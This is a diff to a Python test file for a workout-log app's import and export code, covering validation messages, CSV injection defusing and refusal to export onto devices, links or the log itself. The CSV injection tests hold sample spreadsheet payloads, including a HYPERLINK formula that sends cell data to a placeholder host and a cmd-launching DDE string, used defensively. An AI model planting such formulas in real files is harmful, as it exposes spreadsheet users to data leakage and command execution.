@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
 import os
+import stat
 from collections.abc import Callable
 from datetime import date
 from pathlib import Path
@@ -27,11 +30,15 @@ from app.storage import (
     MorningBaseline,
     ProgramState,
     SafetyAnswers,
+    fields,
 )
 from app.storage import files as files_module
+from app.storage.transfer import defused
 from tests.storage.conftest import DAY, T0, block, fill_the_disk
 
 SUMMER = 1751356800.0  # 2025-07-01 08:00 UTC
+A_TIME = "a time from 1970 to 2200 (seconds since 1970-01-01 UTC)"
+NO_NUL = st.characters(blacklist_characters="\x00")
 
 
 def fill(log: Log) -> None:
@@ -236,11 +243,11 @@ def test_bad_import_names_each_problem_and_its_place(
     document["safety"][0]["contraindicated"] = 1
     assert bad_import(log, tmp_path, document) == (
         "sessions[0].checkin.pain_during: expected a whole number from 0 to 10, found 11",
-        "sessions[0].blocks[1].sets: expected a whole number >= 1, found 0",
+        "sessions[0].blocks[1].sets: expected a whole number from 1 to 1000, found 0",
         "sessions[0].blocks[2].done_seconds: missing",
         'sessions[1].blocks[0].side: expected one of left, right, none; found "both"',
         'sessions[2]: unknown key "colour"',
-        'sessions[3].started: expected a number, found "yesterday"',
+        f'sessions[3].started: expected {A_TIME}, found "yesterday"',
         "sessions[4].uuid: a second session with this UUID",
         "morning_checkins[0].stiffness: give both pain and stiffness, or neither (skipped)",
         'exposure[1].activity: expected one of walk, run; found "swim"',
@@ -289,7 +296,7 @@ def test_bad_import_names_each_problem_and_its_place(
         ),
         (
             lambda d: d["sessions"][1].update(started=float("inf")),
-            "sessions[1].started: expected a number, found Infinity",
+            f"sessions[1].started: expected {A_TIME}, found Infinity",
         ),
     ],
 )
@@ -392,7 +399,7 @@ def test_an_import_the_disk_refuses_adds_nothing(log: Log, tmp_path: Path) -> No
     source.mkdir()
     with Log.open(source) as other:
         for n in range(40):
-            session = other.start_session("r", "R" * 500, 60, T0 + n * DAY)
+            session = other.start_session("r", "R" * 200, 60, T0 + n * DAY)
             for index in range(20):
                 other.save_block(session, block(index, exercise_name="x" * 200), index + 1)
         other.export_json(tmp_path / "big.json", {})
@@ -407,8 +414,13 @@ def test_an_import_the_disk_refuses_adds_nothing(log: Log, tmp_path: Path) -> No
 @settings(
     max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
-@given(note=st.text(), name=st.text(min_size=1).filter(str.strip))
+@given(
+    note=st.text(NO_NUL, max_size=fields.NOTE_MAX),
+    name=st.text(NO_NUL, min_size=1, max_size=fields.ID_MAX).filter(str.strip),
+)
 def test_any_text_survives_the_round_trip(tmp_path_factory, note: str, name: str) -> None:
+    """Any text the log keeps (an id, a name, a note: valid Unicode without NUL, within
+    its length) comes back the same from another machine."""
     folder = tmp_path_factory.mktemp("round")
     first, second = folder / "a", folder / "b"
     first.mkdir()
@@ -423,3 +435,165 @@ def test_any_text_survives_the_round_trip(tmp_path_factory, note: str, name: str
         [summary] = log.sessions()
         assert (summary.routine_id, summary.routine_name, summary.note) == (name, name, note)
         log.close(backup=False)
+
+
+# ------------------------------------------------------------- CSV injection
+
+
+@pytest.mark.parametrize(
+    ("routine_id", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")"'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\"'\r=1\""),
+        ("a\rb", "\"a\rb\""),
+        ("daily-ten", "daily-ten"),
+        ("a=b", "a=b"),
+    ],
+)  # fmt: skip
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
+    log: Log, data_dir: Path, tmp_path: Path, routine_id: str, cell: str
+) -> None:
+    """An imported routine id (ids are any text in an export) comes out defused."""
+    source = tmp_path / "source"
+    source.mkdir()
+    with Log.open(source) as other:
+        session = other.start_session(routine_id, "Name", 60, T0)
+        other.save_block(session, block(0, exercise_id=routine_id), 1)
+        other.export_json(tmp_path / "a.json", {})
+        other.close(backup=False)
+    log.import_json(tmp_path / "a.json")
+    dest = data_dir / "blocks.csv"
+    log.export_csv(dest)
+    row = dest.read_bytes().decode("utf-8").split("\n", 1)[1]
+    # routine_id and exercise_id, side by side after the session's start.
+    assert f",{cell},{cell}," in row
+    [read] = list(csv.reader(io.StringIO(row, newline="")))
+    assert read[2:4] == [defused(routine_id)] * 2 and read[4] == "left"
+
+
+def test_numbers_are_never_defused(log: Log, data_dir: Path) -> None:
+    session = log.start_session("r", "R", 60, T0)
+    log.save_block(session, block(0, done_seconds=0.0), 1)
+    dest = data_dir / "blocks.csv"
+    log.export_csv(dest)
+    assert ",30,0,,,completed,," in dest.read_text()
+
+
+# ------------------------------------------------------------ export targets
+
+
+def test_an_export_through_a_link_writes_the_file_it_names(
+    log: Log, data_dir: Path, tmp_path: Path
+) -> None:
+    fill(log)
+    target = tmp_path / "elsewhere" / "blocks.csv"
+    target.parent.mkdir()
+    target.write_text("old\n")
+    target.chmod(0o644)
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    assert log.export_csv(link) == 4
+    assert link.is_symlink() and os.readlink(link) == str(target)
+    assert target.read_text().startswith("session_id,")
+    assert oct(os.stat(target).st_mode & 0o777) == "0o644"  # the file keeps its mode
+    # The temporary file was made beside the real target, and is gone.
+    assert sorted(p.name for p in target.parent.iterdir()) == ["blocks.csv"]
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
+
+
+def test_an_export_through_a_dangling_link_makes_the_file_it_names(
+    log: Log, tmp_path: Path
+) -> None:
+    target = tmp_path / "new.json"
+    link = tmp_path / "link.json"
+    link.symlink_to(target)
+    log.export_json(link, {})
+    assert link.is_symlink()
+    assert json.loads(target.read_text())["format"] == "footwork-log"
+    assert oct(os.stat(target).st_mode & 0o777) == "0o600"  # a new file is owner-only
+
+
+def make_char_device(path: Path) -> Path:
+    """A character device node like /dev/null (as root); else /dev/null itself."""
+    if os.geteuid() != 0:
+        return Path("/dev/null")
+    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+    return path
+
+
+@pytest.mark.parametrize("kind", ["character device", "FIFO", "folder", "link to a FIFO", "loop"])
+def test_an_export_onto_what_is_not_a_file_is_refused_and_left_alone(
+    log: Log, tmp_path: Path, kind: str
+) -> None:
+    fill(log)
+    path = tmp_path / "target"
+    words = kind
+    if kind == "character device":
+        path = make_char_device(path)
+    elif kind == "FIFO":
+        os.mkfifo(path)
+    elif kind == "folder":
+        path.mkdir()
+    elif kind == "link to a FIFO":
+        os.mkfifo(tmp_path / "fifo")
+        path.symlink_to(tmp_path / "fifo")
+        words = "FIFO"
+    else:
+        path.symlink_to(tmp_path / "other")
+        (tmp_path / "other").symlink_to(path)
+        words = "symbolic link"
+    before = os.lstat(path)
+    for export in (lambda: log.export_csv(path), lambda: log.export_json(path, {})):
+        with pytest.raises(ExportError) as caught:
+            export()
+        assert str(caught.value) == (
+            f"Cannot write {path}: it is a{'n' if words[0] in 'aeiou' else ''} {words}, "
+            "not a file. Footwork left it as it is; choose a file to export to."
+        )
+    after = os.lstat(path)
+    assert (after.st_mode, after.st_ino, after.st_rdev) == (
+        before.st_mode, before.st_ino, before.st_rdev,
+    )  # fmt: skip
+    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_export_onto_a_device_from_the_command_line_exits_2_and_keeps_it(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from app.cli import main
+
+    with Log.open(data_dir) as log:
+        fill(log)
+        log.close(backup=False)
+    device = make_char_device(tmp_path / "null")
+    assert main(["--export", str(device), "--data-dir", str(data_dir)]) == 2
+    assert capsys.readouterr().err == (
+        f"footwork: Cannot write {device}: it is a character device, not a file. Footwork left "
+        "it as it is; choose a file to export to.\n"
+    )
+    assert stat.S_ISCHR(os.lstat(device).st_mode)
+
+
+@pytest.mark.parametrize("name", ["log.sqlite3", "log.sqlite3-wal", "backups/log-x.sqlite3"])
+def test_an_export_never_replaces_the_log_or_a_backup(
+    log: Log, data_dir: Path, tmp_path: Path, name: str
+) -> None:
+    fill(log)
+    (data_dir / "backups").mkdir(exist_ok=True)
+    link = tmp_path / "innocent.csv"
+    link.symlink_to(data_dir / name)  # however it is reached
+    inode = os.stat(data_dir / "log.sqlite3").st_ino
+    for dest in (data_dir / name, link):
+        with pytest.raises(ExportError) as caught:
+            log.export_csv(dest)
+        assert str(caught.value) == (
+            f"Cannot write {dest}: it is your progress log, or one of its backups, and an export "
+            "would replace it. Footwork left it as it is; choose another file to export to."
+        )
+    assert os.stat(data_dir / "log.sqlite3").st_ino == inode
+    assert (data_dir / "log.sqlite3").read_bytes().startswith(b"SQLite format 3\x00")
+    assert not (data_dir / "backups" / "log-x.sqlite3").exists()
